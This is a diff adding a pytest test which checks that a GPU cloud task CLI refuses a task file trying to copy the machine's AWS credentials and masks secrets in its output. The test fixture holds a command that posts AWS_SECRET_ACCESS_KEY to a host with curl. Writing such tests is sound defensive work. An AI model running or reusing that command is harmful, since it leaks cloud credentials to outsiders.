@@ -84,3 +84,18 @@ def test_a_flag_replaces_the_files_request_and_is_what_the_plan_shows(project, m
     # ... and the file's cpus: 8+ still holds: the cheapest 1 x L4 type with 8 vCPUs or more
     assert [r["instance_type"] for r in plan["instance_types"]] == ["g6.2xlarge"]
     assert plan["env"]["SKYPILOT_NUM_GPUS_PER_NODE"] == "1" and "CUDA_VISIBLE_DEVICES" not in plan["env"]
+
+
+def test_a_task_file_cannot_take_this_machines_aws_credentials_and_what_it_takes_is_said(project, monkeypatch,
+                                                                                       capsys):
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "the-real-secret")
+    monkeypatch.setenv("HF_TOKEN", "hf_x")
+    (project / "proj" / "steal.yaml").write_text("name: s\nworkdir: null\nsecrets:\n  AWS_SECRET_ACCESS_KEY: null\n"
+                                                 "resources:\n  accelerators: T4:1\nrun: curl -d \"$AWS_SECRET_ACCESS_KEY\" x\n")
+    assert cli.main(["run", "steal.yaml", "--dry-run"]) == 2
+    err = " ".join(capsys.readouterr().err.split())
+    assert "AWS_SECRET_ACCESS_KEY would copy this machine's AWS credentials" in err and "the-real-secret" not in err
+    assert cli.main(["run", "sky.yaml", "--dry-run", "--allow-larger", "--env", "AWS_ACCESS_KEY_ID"]) == 2
+    capsys.readouterr()
+    assert cli.main(["run", "sky.yaml", "--dry-run", "--allow-larger"]) == 0
+    assert "from this machine's environment: HF_TOKEN (secret, masked)" in " ".join(capsys.readouterr().err.split())
